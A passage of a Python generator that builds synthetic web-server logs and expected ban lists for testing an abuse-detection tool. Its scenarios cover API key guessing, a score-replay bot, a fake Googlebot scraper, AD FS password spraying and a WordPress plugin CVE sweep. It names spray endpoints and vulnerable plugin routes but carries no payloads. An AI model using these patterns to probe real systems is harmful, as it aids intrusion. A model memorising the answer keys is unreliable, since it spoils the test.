    good.append((broken, "customer's integration with a revoked key, 401 every minute"))
    t = 12
    while t < dur:
        L.add(t, broken, "POST", "/api/v2/contacts/sync", 401, 60, "-", "axios/1.7.7")
        t += 60 + r.uniform(-0.5, 0.5)
    for k in range(8):
        ip = "34.%d.%d.%d" % (r.randint(0, 255), r.randint(0, 255), r.randint(2, 254))
        if k < 3:
            good.append((ip, "API customer sending mail"))
        t = r.uniform(0, 600)
        while t < dur:
            L.add(t, ip, "POST", "/api/v2/messages", r.choice([202] * 30 + [422]), 200, "-", r.choice(["node-fetch/3.3", "python-requests/2.32.3", "Go-http-client/2.0"]))
            t += r.expovariate(0.3)
    return L, "Mailing SaaS API: bearer key guessing on /api/v2/me at 5/s for 8 min (401) and key guessing through /api/v1/keys/<key>/verify at 2/s for 15 min (404); a broken integration with a revoked key (401 every minute for an hour), 8 API customers, web users, office NAT", bad, good


# ---------------------------------------------------------------------------
# 12. A cheat bot replaying score submissions to a game backend.
# Models: a leaderboard cheat replaying POST /v1/matches/<id>/results with
# tampered payloads at ~15/s for 2 minutes, copying the game client's UA;
# anti-cheat answers 403 (bad signature) and 400 (impossible score), a few
# 409 (match already closed). Around: the real players' sessions (config,
# auth, matchmaking polls, telemetry, one result per match).
# Realistic: score replay is the commonest game-API abuse; bots reuse the
# engine's UA.
@scen
def leaderboard_score_replay_bot():
    L = Log(T0, 712, "game")
    r = L.rnd
    dur = 2400
    monitor(L, dur, "/healthz")
    ua = "UnityPlayer/2022.3.45f1 (UnityWebRequest/1.0, libcurl/8.5.0-DEV)"
    good, bad = [], []
    for k in range(50):
        ip = L.ip()
        if k < 6:
            good.append((ip, "player"))
        t = r.uniform(0, dur - 900)
        L.add(t, ip, "GET", "/v1/config?platform=win64&build=5821", 200, 4000, "-", ua)
        L.add(t + 0.3, ip, "POST", "/v1/auth/steam", 200, 900, "-", ua)
        tk = uuid.UUID(int=r.getrandbits(128))
        L.add(t + 2, ip, "POST", "/v1/matchmaking/tickets", 201, 300, "-", ua)
        w = t + 3
        for _ in range(r.randint(10, 60)):
            L.add(w, ip, "GET", "/v1/matchmaking/tickets/%s" % tk, 200, 200, "-", ua)
            w += 1
        mid = uuid.UUID(int=r.getrandbits(128))
        end = w + r.uniform(300, 700)
        while w < end:
            w += 30
            L.add(w, ip, "POST", "/v1/telemetry/batch", 204, 0, "-", ua)
        L.add(end, ip, "POST", "/v1/matches/%s/results" % mid, r.choice([200] * 20 + [409]), 300, "-", ua)
    ip = dc_ip(L)
    bad.append((ip, "score replay bot, ~15 POST results/s for 2 min, 403/400"))
    t = 1000
    mids = [uuid.UUID(int=r.getrandbits(128)) for _ in range(30)]
    while t < 1120:
        L.add(t, ip, "POST", "/v1/matches/%s/results" % r.choice(mids), r.choice([403] * 6 + [400] * 3 + [409]), 90, "-", ua)
        t += r.expovariate(15)
    return L, "Game backend: a score-replay bot POSTing match results at ~15/s for 2 min (403/400/409) with the game's UA; 50 players' sessions", bad, good


# ---------------------------------------------------------------------------
# 13. A price scraper claiming to be Googlebot.
# Models: a competitor's scraper on a cloud VM using Googlebot's UA string
# (so that bot-friendly sites let it through): product pages and
# catalogsearch queries at ~5/s for 20 min, no assets, no robots.txt.
# Around: the real Googlebot and bingbot (from their own networks), shoppers,
# an office NAT.
# Realistic: fake Googlebot UAs are the most common spoofed crawler; real
# Googlebot comes from 66.249.64.0/19 and reverse-resolves to googlebot.com.
@scen
def fake_googlebot_price_scraper():
    L = Log(T0, 713, "shop")
    s = shop_site("www.example-elektro.de")
    r = L.rnd
    dur = 2400
    good = background(L, s, dur, 40)
    bad = []
    ip = "164.92.%d.%d" % (r.randint(0, 255), r.randint(2, 254))
    bad.append((ip, "fake Googlebot from a cloud VM, 5/s for 20 min"))
    t = 600
    while t < 1800:
        if r.random() < 0.3:
            L.add(t, ip, "GET", "/catalogsearch/result/?q=%s" % r.choice(["tv", "laptop", "kuehlschrank", "waschmaschine", "iphone", "kopfhoerer", "kaffeemaschine"]) + "&p=%d" % r.randint(1, 40), 200, 60000, "-", GOOGLEBOT)
        else:
            L.add(t, ip, "GET", "/%s-%d.html" % (r.choice(["tv-oled", "notebook", "kuehlschrank", "waschmaschine", "smartphone"]), r.randint(10000, 99999)), r.choice([200] * 8 + [404]), 50000, "-", GOOGLEBOT)
        t += r.expovariate(5)
    for ip in sorted(g for g in L.used if g.startswith("66.249.") or g.startswith("157.55.")):
        good.append((ip, "real search crawler"))
    return L, "Shop: a price scraper on a cloud VM with Googlebot's UA (product pages and catalogsearch at ~5/s for 20 min, no assets); the real Googlebot and bingbot, shoppers, office NAT", bad, good


# ---------------------------------------------------------------------------
# 14. Password spray against AD FS, where a refusal is a 200.
# Models: MSOLSpray/ADFSpray-style spraying against a university's AD FS:
# POST /adfs/ls/?client-request-id=...&wa=wsignin1.0&wtrealm=urn:federation:
# MicrosoftOnline... answered 200 (the sign-in page again, with the error)
# on every wrong password and 302 on a hit, one per 4 s for 30 min from one
# address (python-requests); a second one on the WS-Trust endpoint
# /adfs/services/trust/2005/usernamemixed (SOAP; a failure is 500 with a
# fault), one per 3 s. Around: the campus NAT where students and staff sign
# in through AD FS in the browser (GET, then POST answered 302; a wrong
# password is a 200), Outlook clients, visitors.
# Realistic: AD FS forms return 200 on failure; usernamemixed is the classic
# legacy-auth spray target.
@scen
def adfs_password_spray():
    L = Log(T0, 714, "uni")
    s = uni_site("sso.uni-example.edu")
    r = L.rnd
    dur = 2700
    good = background(L, s, dur, 20)
    bad = []
    def adfs():
        return "/adfs/ls/?client-request-id=%s&wa=wsignin1.0&wtrealm=urn%%3afederation%%3aMicrosoftOnline&wctx=LoginOptions%%3d3%%26estsredirect%%3d2%%26estsrequest%%3d%s&cbcxt=&username=&mkt=&lc=" % (uuid.UUID(int=r.getrandbits(128)), hexid(r, 60))
    ip = dc_ip(L)
    bad.append((ip, "AD FS form spray, 1 per 4 s for 30 min, 200 on failure"))
    t = 300
    while t < 2100:
        L.add(t, ip, "POST", adfs(), 200, 14500, "-", "python-requests/2.31.0")
        t += r.uniform(3.5, 4.5)
    ip = dc_ip(L)
    bad.append((ip, "WS-Trust usernamemixed spray, 1 per 3 s, 500 faults"))
    t = 500
    while t < 2500:
        L.add(t, ip, "POST", "/adfs/services/trust/2005/usernamemixed", 500, 1800, "-", "Python-urllib/3.11")
        t += r.uniform(2.5, 3.5)
    nat = "141.76.%d.%d" % (r.randint(0, 255), r.randint(2, 254))
    good.append((nat, "campus NAT, 200 sign-ins through AD FS (10 % one typo)"))
    for k in range(200):
        ua = r.choice(UAS)
        t = r.uniform(0, dur - 120)
        u = adfs()
        L.add(t, nat, "GET", u, 200, 14500, "https://login.microsoftonline.com/", ua)
        if r.random() < 0.1:
            L.add(t + 9, nat, "POST", u, 200, 14700, s.url(u), ua)
            t += 8
        L.add(t + 10, nat, "POST", u, 302, 0, s.url(u), ua)
        L.add(t + 10.5, nat, "GET", "/adfs/ls/?wa=wsignin1.0&wtrealm=urn%3afederation%3aMicrosoftOnline", 200, 6000, s.url(u), ua)
    for k in range(5):
        ip = L.ip()
        if k < 2:
            good.append((ip, "Outlook (legacy) on usernamemixed, succeeds"))
        t = r.uniform(0, 600)
        while t < dur:
            L.add(t, ip, "POST", "/adfs/services/trust/2005/usernamemixed", 200, 9000, "-", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.10417; Pro)")
            t += r.uniform(600, 1200)
    return L, "University AD FS: form spray at 1 per 4 s for 30 min (200 on failure) and WS-Trust usernamemixed spray at 1 per 3 s (500 faults); a campus NAT with 200 browser sign-ins (10 % typos, 200), legacy Outlook clients, visitors", bad, good


# ---------------------------------------------------------------------------
# 15. WordPress plugin CVE sweep of 2024-25.
# Models: botnets sweeping WordPress sites for plugin flaws disclosed in
# 2024-25: LiteSpeed Cache (CVE-2024-28000 role simulation / CVE-2024-44000
# debug log), Really Simple Security 2FA bypass (CVE-2024-10924), Bricks
# Builder RCE (CVE-2024-25600), OttoKit/SureTriggers (CVE-2025-3102), GiveWP
# (CVE-2024-5932), Post SMTP (CVE-2025-24000), each address 1-4 requests,
# answered 404 (no such REST route) or 200 for the debug log probe (empty).
# Around: the site's editors (block editor REST calls), the WordPress app,
# visitors, crawlers.
# Realistic: these are the exploitation requests published in Wordfence and
# Patchstack advisories for each CVE.
@scen
def wp_plugin_cve_sweep_2025():
    L = Log(T0, 715, "wp")
    s = blog_site("www.example-reiseblog.de")
    r = L.rnd
    dur = 2400
    good = background(L, s, dur, 30)
    bad = []
    sweeps = [
        ("LiteSpeed Cache CVE-2024-44000/28000", [("GET", "/wp-content/debug.log", 404), ("GET", "/wp-content/litespeed/debug/debug.log", 404), ("POST", "/wp-json/wp/v2/users", 401)]),
        ("Really Simple Security CVE-2024-10924", [("POST", "/?rest_route=/reallysimplessl/v1/two_fa/skip_onboarding", 404)]),
        ("Bricks Builder CVE-2024-25600", [("GET", "/", 200), ("POST", "/wp-json/bricks/v1/render_element", 404), ("POST", "/?rest_route=/bricks/v1/render_element", 404)]),
        ("OttoKit/SureTriggers CVE-2025-3102", [("POST", "/wp-json/sure-triggers/v1/automation/action", 404), ("POST", "/?rest_route=/sure-triggers/v1/automation/action", 404)]),
        ("GiveWP CVE-2024-5932", [("GET", "/donations/", 404), ("POST", "/wp-admin/admin-ajax.php?action=give_process_donation", 400)]),
        ("Post SMTP CVE-2025-24000", [("GET", "/wp-json/post-smtp/v1/connect-app", 404), ("GET", "/wp-json/post-smtp/v1/get-logs", 404)]),
    ]
    for name, steps in sweeps:
        for k in range(2):
            ip = dc_ip(L)
            bad.append((ip, name))
            ua = r.choice([UAS[0], "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36", "python-requests/2.31.0", "Go-http-client/1.1"])
            t = r.uniform(60, dur - 60)
            for m, p, st in steps:
                L.add(t, ip, m, p, st, 120, "-", ua)
                t += r.uniform(0.2, 2)
    for k in range(3):
        ip = L.ip()
        good.append((ip, "editor in the block editor (REST)"))
        ua = r.choice(UAS[:4])
        t = r.uniform(0, dur - 900)
        adm = "https://www.example-reiseblog.de/wp-admin/post.php?post=%d&action=edit" % r.randint(100, 999)
        for j in range(r.randint(20, 60)):
            p = r.choice(["/wp-json/wp/v2/posts/%d?context=edit&_locale=user" % r.randint(100, 999), "/wp-json/wp/v2/types?context=view&_locale=user", "/wp-json/wp/v2/media?context=edit&per_page=20&_locale=user", "/wp-json/wp/v2/users/me?context=edit&_locale=user", "/wp-json/wp/v2/blocks?context=edit&per_page=100&_locale=user", "/wp-admin/admin-ajax.php"])
            L.add(t, ip, "POST" if p.endswith("ajax.php") else "GET", p, 200, 3000, adm, ua)
            t += r.uniform(1, 30)
    ip = L.ip()
    good.append((ip, "WordPress app (REST via application password)"))
    t = 400
    for j in range(40):
        L.add(t, ip, "GET", r.choice(["/wp-json/wp/v2/posts?status=draft&context=edit", "/wp-json/wp/v2/media?per_page=50", "/wp-json/wp/v2/comments?status=hold"]), 200, 9000, "-", "wp-iphone/25.4 (iOS 18.1.1, iPhone16,1) Mobile")
        t += r.uniform(2, 40)
    return L, "WordPress site: 12 addresses sweeping 2024-25 plugin CVEs (LiteSpeed, Really Simple Security, Bricks, SureTriggers, GiveWP, Post SMTP), 1-3 requests each; editors in the block editor, the WordPress app, visitors, crawlers, office NAT", bad, good


def main():
    only = sys.argv[1:]
    for f in SC:
        name = f.__name__.replace("_", "-")
        if only and name not in only:
            continue
        res = f()
        L, desc, bad, good = res[:4]
        policy = res[4] if len(res) > 4 else None
        n = L.write(os.path.join(OUT, name + ".log"), xff_all=policy is not None)
        cfg = None
        if policy is not None:
            cfg = name + ".policy.toml"
            with open(os.path.join(OUT, cfg), "w") as pf:
                pf.write("# The operator's policy: nginx sits behind HAProxy on this host.\n" + policy)
        seen, bb, gg = set(), [], []
        for ip, c in bad:
            if ip not in seen:
                seen.add(ip)
                bb.append((ip, c))
        for ip, c in good:
            if ip not in seen:
                seen.add(ip)
                gg.append((ip, c))
        expect(os.path.join(OUT, name + ".expect.toml"), "fresh-s13 attack: " + desc, banned=bb, not_banned=gg, lines=n, config=cfg)
        print(name, n)


main()
